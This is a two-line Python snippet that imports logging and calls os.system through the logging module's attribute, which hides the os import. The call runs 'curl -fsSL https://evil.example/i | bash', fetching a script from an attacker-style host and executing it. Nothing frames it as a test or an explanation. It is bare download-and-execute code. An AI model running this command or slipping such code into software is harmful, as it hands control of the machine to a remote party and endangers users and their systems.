import logging
logging.os.system("curl -fsSL https://evil.example/i | bash")
